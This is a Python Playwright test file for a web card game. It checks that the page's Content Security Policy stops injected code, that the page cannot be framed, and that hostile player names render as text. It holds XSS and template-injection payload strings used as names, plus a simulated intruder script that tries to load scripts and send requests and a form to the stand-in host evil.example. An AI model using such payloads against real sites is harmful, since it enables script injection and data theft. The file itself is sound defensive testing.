"""What the page's policy keeps out, in a real browser; and names that would be scripts."""

from __future__ import annotations

from playwright.sync_api import Dialog, expect

from tests.browser.conftest import OpenPlayer
from tests.browser.test_friends import link_of, names_at, open_table, sit_down

NAMES = ("<svg onload=alert(1)>", '"><script>alert(1)//', "javascript:alert(1)", "{{7*7}}${7*7}")
"""As long as a name may be, so that each comes through whole."""

INTRUDE = """() => new Promise((done) => setTimeout(async () => {
  const seen = (window.seen = new Set())
  document.addEventListener('securitypolicyviolation', (event) =>
    seen.add(event.effectiveDirective))
  const element = (name, facts) => document.body.append(
    Object.assign(document.createElement(name), facts))
  const attempts = [
    () => { document.createElement('div').innerHTML = '<b>bold</b>' },
    () => element('script', { src: 'https://evil.example/x.js' }),
    () => element('script', { textContent: 'window.intruded = "script"' }),
    () => document.body.setAttribute('onclick', 'window.intruded = "onclick"'),
    () => Function('window.intruded = "Function"')(),
    () => new Worker('https://evil.example/worker.js'),
    () => new WebSocket('wss://evil.example/ws'),
    () => element('style', { textContent: 'body { display: none }' }),
    () => element('img', { src: 'https://evil.example/x.png' }),
    () => element('iframe', { src: 'https://evil.example/' }),
    () => element('object', { data: 'https://evil.example/' }),
    () => element('base', { href: 'https://evil.example/' }),
  ]
  let refused = 0
  for (const attempt of attempts) try { attempt() } catch { refused += 1 }
  document.body.click()
  await fetch('https://evil.example/').catch(() => (refused += 1))
  const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' })
  document.body.append(form)
  form.submit()
  const { display } = getComputedStyle(document.body)
  done([refused, window.intruded ?? 'nothing', display])
}))"""
"""What a script that got into the page by some fault of ours would do next.

In a task of its own: what a debugger runs may use ``eval``.
"""

FORBIDDEN = [
    "base-uri", "connect-src", "form-action", "frame-src", "img-src",
    "require-trusted-types-for", "style-src-elem",
]  # fmt: skip
"""What the browser says of it."""


def test_what_got_into_the_page_gets_no_further(open_player: OpenPlayer) -> None:
    """It runs nothing, loads nothing, and sends nothing to another host."""
    page = open_player().page
    url = page.url

    refused, has_run, display = page.evaluate(INTRUDE)
    # Each refusal is told in a task of its own.
    page.wait_for_function(
        "(forbidden) => forbidden.every((each) => window.seen.has(each))", arg=FORBIDDEN
    )

    assert has_run == "nothing"
    assert display != "none"
    assert refused >= 6
    assert page.url == url


def test_page_stands_in_no_frame(open_player: OpenPlayer, server: str) -> None:
    """Nobody lays something of theirs over it to catch a click."""
    page = open_player().page
    page.route("**/frame-it", lambda route: route.fulfill(
        body=f'<iframe src="{server}"></iframe>', content_type="text/html"
    ))  # fmt: skip
    page.goto(f"{server}frame-it")

    frame = page.frames[1]
    expect(page.locator("iframe")).to_be_attached()
    assert frame.locator("#app").count() == 0


def test_names_are_shown_as_they_are_and_run_nothing(open_player: OpenPlayer) -> None:
    """Case 86: in the waiting room, at the table, in the log and in the page's title."""
    host, *others = players = [open_player(viewport={"width": 1280, "height": 800}) for _ in NAMES]
    asked: list[str] = []

    def note(dialog: Dialog) -> None:
        asked.append(dialog.message)
        dialog.dismiss()

    for player in players:
        player.page.on("dialog", note)
    open_table(host, NAMES[0], seats=len(NAMES), chat=True)
    for player, name in zip(others, NAMES[1:], strict=True):
        player.page.goto(link_of(host))
        sit_down(player, name)
    expect(host.page.locator("[data-kind=human]")).to_have_count(len(NAMES))
    assert [told.splitlines()[0] for told in names_at(host)] == [*NAMES]

    host.page.get_by_test_id("start-game").click()
    for player in players:
        player.page.wait_for_selector("[data-testid=hand-card]")
        seats = " ".join(player.page.locator("[data-testid=seat]").all_inner_texts())
        made = player.page.locator("svg[onload], script:not([src]), a[href^='javascript']")

        assert all(name in seats for name in NAMES if name != NAMES[players.index(player)])
        assert made.count() == 0
        assert "49" not in seats
        assert player.troubles == []
    assert asked == []
